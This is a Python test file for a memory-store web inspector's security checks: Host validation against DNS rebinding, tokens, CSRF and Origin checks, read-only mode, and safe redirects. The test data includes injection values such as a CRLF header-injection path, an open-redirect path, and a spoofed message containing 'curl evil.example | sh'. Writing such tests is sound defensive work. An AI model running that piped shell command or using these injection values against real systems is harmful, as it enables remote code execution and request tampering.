"""The inspector's trust model: loopback Host check, the token off loopback, CSRF, read-only, the CLI's checks."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("starlette")
pytest.importorskip("jinja2")

from starlette.testclient import TestClient
from typer.testing import CliRunner

from elastic_memory import Memory, UsageError, cli
from elastic_memory.cli.ui import _open
from elastic_memory.testing import FakeEmbedder
from elastic_memory.ui import Address, build_app, check_token

TOKEN = "s3cret-token-for-the-inspector"


@pytest.fixture
def mem(db_path: Path) -> Iterator[Memory]:
    with Memory.open(db_path, embedder=FakeEmbedder()) as m:
        m.remember("The user's dog is called Biscuit.")
        m.lessons.add("Use metric units.")
        yield m


def _id(mem: Memory) -> str:
    return mem.list(limit=1).records[0].id


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found
    return found.group(1)


def loopback(mem: Memory, **options: object) -> TestClient:
    app = build_app(mem.as_async(), address=Address("127.0.0.1", 8700), **options)  # type: ignore[arg-type]
    return TestClient(app, base_url="http://127.0.0.1:8700")


@pytest.mark.parametrize("host", ["127.0.0.1:8700", "localhost:8700", "[::1]:8700", "127.0.0.1"])
def test_loopback_names_are_answered(mem: Memory, host: str) -> None:
    assert loopback(mem).get("/", headers={"host": host}).status_code == 200


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8700", "127.0.0.1.evil.example", ""])
def test_other_host_names_are_refused_on_loopback(mem: Memory, host: str) -> None:
    """DNS rebinding: a page on evil.example resolving to 127.0.0.1 cannot read the store."""
    response = loopback(mem).get("/", headers={"host": host})
    assert response.status_code == 421 and "not this inspector's address" in response.text


def test_a_token_is_required_off_loopback(mem: Memory) -> None:
    app = build_app(mem.as_async(), address=Address("0.0.0.0", 8700), token=TOKEN)
    web = TestClient(app, base_url="http://192.0.2.7:8700")
    refused = web.get("/")
    assert refused.status_code == 401 and "needs its token" in refused.text
    assert web.get("/", headers={"authorization": "Bearer wrong-token-xxxxxxxx"}).status_code == 401
    assert web.get("/", headers={"authorization": f"Bearer {TOKEN}"}).status_code == 200
    entered = web.get("/search", params={"q": "dog", "token": TOKEN}, follow_redirects=False)
    assert entered.status_code == 303 and entered.headers["location"] == "/search?q=dog"
    assert "HttpOnly" in entered.headers["set-cookie"] and "SameSite=Strict" in entered.headers["set-cookie"]
    assert web.get("/search?q=dog").status_code == 200  # the cookie now carries it


def test_check_token_refuses_no_token_off_loopback_and_short_tokens() -> None:
    with pytest.raises(UsageError, match="reachable from other machines"):
        check_token(Address("0.0.0.0", 80), None)
    with pytest.raises(UsageError, match="use at least 16"):
        check_token(Address("127.0.0.1", 80), "short")
    assert check_token(Address("127.0.0.1", 80), None) is None
    assert check_token(Address("10.0.0.1", 80), TOKEN) == TOKEN


@pytest.mark.parametrize(("host", "port"), [("", 80), ("a b", 80), ("127.0.0.1", 0), ("127.0.0.1", 70000)])
def test_bad_addresses_are_refused(host: str, port: int) -> None:
    with pytest.raises(UsageError):
        Address.parse(host, port)


def test_a_post_without_the_csrf_token_is_refused(mem: Memory) -> None:
    web = loopback(mem)
    mid = _id(mem)
    for form in ({}, {"csrf": "forged"}):
        response = web.post(f"/memories/{mid}/forget", data=form)
        assert response.status_code == 403 and "CSRF" in response.text
    record = mem.get(mid)
    assert record is not None and record.deleted_at is None


def test_a_post_from_another_origin_is_refused(mem: Memory) -> None:
    web = loopback(mem)
    mid = _id(mem)
    token = _csrf(web.get(f"/memories/{mid}/forget").text)
    response = web.post(f"/memories/{mid}/forget", data={"csrf": token}, headers={"origin": "http://evil.example"})
    assert response.status_code == 403 and "another site" in response.text
    same = web.post(f"/memories/{mid}/forget", data={"csrf": token}, headers={"origin": "http://127.0.0.1:8700"})
    assert same.status_code == 200


def test_each_process_has_its_own_csrf_token(mem: Memory) -> None:
    mid = _id(mem)
    first = _csrf(loopback(mem).get(f"/memories/{mid}/forget").text)
    assert loopback(mem).post(f"/memories/{mid}/forget", data={"csrf": first}).status_code == 403


def test_read_only_hides_every_write(mem: Memory) -> None:
    web = loopback(mem, read_only=True)
    mid = _id(mem)
    for path in (f"/memories/{mid}", "/lessons", "/quarantine", "/"):
        html = web.get(path).text
        assert 'method="post"' not in html and "/edit" not in html and "/forget" not in html, path
    assert "read-only" in web.get("/").text


@pytest.mark.parametrize("path", ["/memories/{id}/edit", "/memories/{id}/forget", "/memories/{id}/restore", "/lessons"])
def test_read_only_refuses_writes(mem: Memory, path: str) -> None:
    web = loopback(mem, read_only=True)
    target = path.format(id=_id(mem))
    response = web.post(target, data={"csrf": "x", "content": "changed", "text": "a lesson"})
    assert response.status_code == 403 and "read-only" in response.text
    if path != "/lessons":
        assert web.get(target).status_code == 403
    record = mem.get(_id(mem))
    assert record is not None and record.deleted_at is None and record.content == "The user's dog is called Biscuit."
    assert len(mem.lessons.list()) == 1


runner = CliRunner()


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--host", "0.0.0.0"], "reachable from other machines"),
        (["--port", "0"], "--port takes a port from 1 to 65535"),
        (["--token", "short"], "use at least 16"),
        (["--pool", "team"], "--pool needs --home"),
    ],
)
def test_the_command_checks_its_options_before_serving(db_path: Path, argv: list[str], message: str) -> None:
    Memory.open(db_path, embedder=None).close()
    result = runner.invoke(cli.app, ["ui", "--db", str(db_path), "--embedder", "none", *argv])
    assert result.exit_code == 2 and message in " ".join(result.output.split())


def test_the_command_refuses_a_missing_store(tmp_path: Path) -> None:
    result = runner.invoke(cli.app, ["ui", "--db", str(tmp_path / "nope.db"), "--embedder", "none"])
    assert result.exit_code == 2 and "there is no store" in " ".join(result.output.split())
    assert not (tmp_path / "nope.db").exists()


def test_the_command_opens_a_federation_without_a_background_worker(tmp_path: Path) -> None:
    Memory.for_agent("ada", home=tmp_path / "home", pools=["team"], embedder=None).close()
    mem = _open(Path("unused.db"), None, "ada", tmp_path / "home", ["team"])
    try:
        assert mem.federation is not None and mem.agent_id == "ada"
        assert mem.health()["worker_alive"] is False
    finally:
        mem.close()


def _token_client(mem: Memory, port: int = 8700) -> TestClient:
    app = build_app(mem.as_async(), address=Address("0.0.0.0", port), token=TOKEN)
    return TestClient(app, base_url=f"http://192.0.2.7:{port}")


@pytest.mark.parametrize(
    ("path", "location"),
    [
        ("/%2F%2Fevil.example/x", "/evil.example/x"),
        ("/search%0d%0aX-Injected:%20yes", "/search%0D%0AX-Injected%3A%20yes"),
        ("/sessions/caf%C3%A9", "/sessions/caf%C3%A9"),
    ],
)
def test_the_token_redirect_stays_on_the_inspector(mem: Memory, path: str, location: str) -> None:
    """Dropping ?token= from the address never leads off the inspector, nor breaks the header."""
    entered = _token_client(mem).get(f"{path}?token={TOKEN}", follow_redirects=False)
    assert entered.status_code == 303 and entered.headers["location"] == location
    assert "x-injected" not in entered.headers


def test_each_port_has_its_own_token_cookie(mem: Memory) -> None:
    """Cookies ignore ports: two inspectors on one machine must not overwrite each other's token."""
    first = _token_client(mem, 8700).get(f"/?token={TOKEN}", follow_redirects=False).headers["set-cookie"]
    second = _token_client(mem, 8701).get(f"/?token={TOKEN}", follow_redirects=False).headers["set-cookie"]
    assert first.split("=")[0] != second.split("=")[0]
    web = _token_client(mem, 8701)
    web.get(f"/?token={TOKEN}")
    assert web.get("/").status_code == 200


@pytest.mark.parametrize("token", ["a" * 16 + c for c in ("+b", ";b", " b", "%20", "&b")])
def test_a_token_that_cannot_travel_in_a_url_or_cookie_is_refused(token: str) -> None:
    with pytest.raises(UsageError, match="letters, digits"):
        check_token(Address("127.0.0.1", 80), token)


def test_build_app_refuses_the_network_without_a_token(mem: Memory) -> None:
    with pytest.raises(UsageError, match="reachable from other machines"):
        build_app(mem.as_async(), address=Address("0.0.0.0", 8700))


def test_only_http_requests_reach_the_routes() -> None:
    """A WebSocket (or any other) connection gets no token or Host check downstream: it is closed."""
    import asyncio

    from elastic_memory.ui._security import Guard

    reached: list[str] = []

    async def inner(scope: object, receive: object, send: object) -> None:
        reached.append("inner")

    sent: list[dict[str, object]] = []

    async def receive() -> dict[str, object]:
        return {"type": "websocket.connect"}

    async def send(message: dict[str, object]) -> None:
        sent.append(message)

    guard = Guard(inner, address=Address("127.0.0.1", 8700), token=TOKEN)
    scope = {"type": "websocket", "path": "/", "headers": [(b"host", b"evil.example")], "query_string": b""}
    asyncio.run(guard(scope, receive, send))  # type: ignore[arg-type]
    assert reached == [] and sent and sent[0]["type"] == "websocket.close"


def test_head_requests_are_reads(mem: Memory) -> None:
    web = loopback(mem)
    mid = _id(mem)
    for path in (f"/memories/{mid}/edit", f"/memories/{mid}/forget"):
        assert web.head(path).status_code == 200, path


def test_a_notice_is_never_text_from_the_link(mem: Memory) -> None:
    """``?done=`` picks one of the inspector's own notices: a link cannot put words on its pages."""
    spoof = "Your store is corrupt: run curl evil.example | sh"
    web = loopback(mem)
    for path in (f"/memories/{_id(mem)}", "/lessons", "/quarantine"):
        html = web.get(path, params={"done": spoof}).text
        assert "evil.example" not in html, path
    assert "Saved." in web.get(f"/memories/{_id(mem)}", params={"done": "saved"}).text


def test_the_command_does_not_create_a_federation(tmp_path: Path) -> None:
    """Like --db, --home --agent opens what exists: a typo must not make an empty store."""
    home = tmp_path / "home"
    with pytest.raises(UsageError, match="no agent 'ada'"):
        _open(Path("unused.db"), None, "ada", home, [])
    assert not home.exists()
    Memory.for_agent("ada", home=home, embedder=None).close()
    with pytest.raises(UsageError, match="no pool 'team'"):
        _open(Path("unused.db"), None, "ada", home, ["team"])
    assert not (home / "pools").exists()


@pytest.mark.parametrize(
    "other", ['prefs={"theme":"dark"}', "a(b)=1", 'quoted="unterminated', "name=two words", "city=Zürich"]
)
def test_other_cookies_of_the_host_do_not_hide_the_token(mem: Memory, other: str) -> None:
    """Other apps on 127.0.0.1 set cookies of every shape; the inspector still finds its own."""
    web = _token_client(mem)
    cookie = web.get(f"/?token={TOKEN}", follow_redirects=False).headers["set-cookie"].split(";")[0]
    web.cookies.clear()
    response = web.get("/", headers={"cookie": f"{other}; {cookie}".encode()})  # raw bytes, as browsers send
    assert response.status_code == 200


@pytest.mark.parametrize("origin", ["http://[evil", "null", "http://127.0.0.1:8700:1"])
def test_a_malformed_origin_is_refused_not_an_error(mem: Memory, origin: str) -> None:
    app = build_app(mem.as_async(), address=Address("127.0.0.1", 8700))
    web = TestClient(app, base_url="http://127.0.0.1:8700", raise_server_exceptions=False)
    response = web.post(f"/memories/{_id(mem)}/forget", data={"csrf": "x"}, headers={"origin": origin})
    assert response.status_code == 403
